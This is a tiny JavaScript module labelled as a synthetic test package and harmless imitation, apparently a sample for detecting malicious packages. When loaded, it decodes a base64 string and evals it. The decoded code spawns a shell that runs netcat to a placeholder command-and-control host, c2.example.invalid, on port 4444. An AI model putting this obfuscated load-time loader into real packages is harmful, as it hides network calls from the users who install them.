// Synthetic test package (slopspotter-lab); harmless imitation.
const code = Buffer.from("cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLnNwYXduU3luYygic2giLCBbIi1jIiwgIm5jIC13IDMgYzIuZXhhbXBsZS5pbnZhbGlkIDQ0NDQgfHwgdHJ1ZSJdKTs=", "base64").toString();
eval(code);
module.exports = {};
